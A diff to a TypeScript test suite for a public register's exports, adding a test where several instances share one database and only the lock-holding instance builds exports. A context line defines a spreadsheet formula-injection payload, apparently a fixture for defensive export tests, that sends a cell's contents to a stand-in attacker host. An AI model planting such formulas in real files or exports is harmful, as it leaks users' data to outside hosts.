@@ -4,7 +4,8 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { fetchHttp, seedDemo } from '../demo/seed.js';
 import { UnitOfWork } from '../apps/registry/src/platform/journal/unit-of-work.js';
 import { bearer, createOrganisation, createSource, privacyRecordBody, type TestOrganisation, walkPages } from './support/fixtures.js';
-import { startTestApp, type TestApp, uniqueSlug } from './support/test-app.js';
+import { generateApiKey } from '../apps/registry/src/api-keys/api-key-secret.js';
+import { createDatabase, describeOnServer, SHARED_LOG_KEY, startTestApp, type TestApp, uniqueSlug } from './support/test-app.js';
 
 const PUBLIC = 'https://plaza.example/register';
 const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
@@ -178,6 +179,46 @@ describe('full exports of the public register', () => {
       const body = Buffer.concat(chunks);
       expect(body.length).toBe(total);
       expect(body.toString('utf8').split('\n').filter(Boolean)).toHaveLength(built.records);
+    }, 120_000);
+  });
+
+  /** Instances of one registry on one server database, each with an export folder of its own: only the elected one builds. */
+  describeOnServer('several instances on one database', () => {
+    let database: Awaited<ReturnType<typeof createDatabase>>;
+    const apps: TestApp[] = [];
+    const operatorKey = generateApiKey().key;
+    const start = async () => {
+      const app = await startTestApp({ DATABASE_URL: database.url, PLAZA_LOG_SIGNING_KEY: SHARED_LOG_KEY, PLAZA_OPERATOR_KEY: operatorKey, PLAZA_EXPORT_INTERVAL_MS: '100' });
+      apps.push(app);
+      return { ...app, operatorKey };
+    };
+    const built = async (app: TestApp) => (await app.http.get('/exports')).status === 200;
+    const until = async (what: string, condition: () => Promise<boolean>) => {
+      for (const deadline = Date.now() + 15_000; !(await condition()); ) {
+        if (Date.now() > deadline) throw new Error(`timed out waiting until ${what}`);
+        await sleep(50);
+      }
+    };
+
+    beforeAll(async () => {
+      database = await createDatabase(process.env.DATABASE_URL!);
+    });
+    afterAll(async () => {
+      for (const app of apps) await app.close().catch(() => undefined);
+      await database?.drop();
+    });
+
+    it('builds in the one instance holding the lock, and in another once that one stops', async () => {
+      const first = await start();
+      await until('the first instance built an export', () => built(first));
+      const second = await start();
+      await createOrganisation(second, uniqueSlug('exp-election'), 'city');
+      const size = await second.app.get(UnitOfWork).size();
+      await until('the first instance exported the new size', async () => (await first.http.get('/exports')).body.journalSize === size);
+      expect(await built(second)).toBe(false);
+      await first.close();
+      await until('the second instance took over', () => built(second));
+      expect((await second.http.get('/exports').expect(200)).body.journalSize).toBe(size);
     }, 120_000);
   });
 });
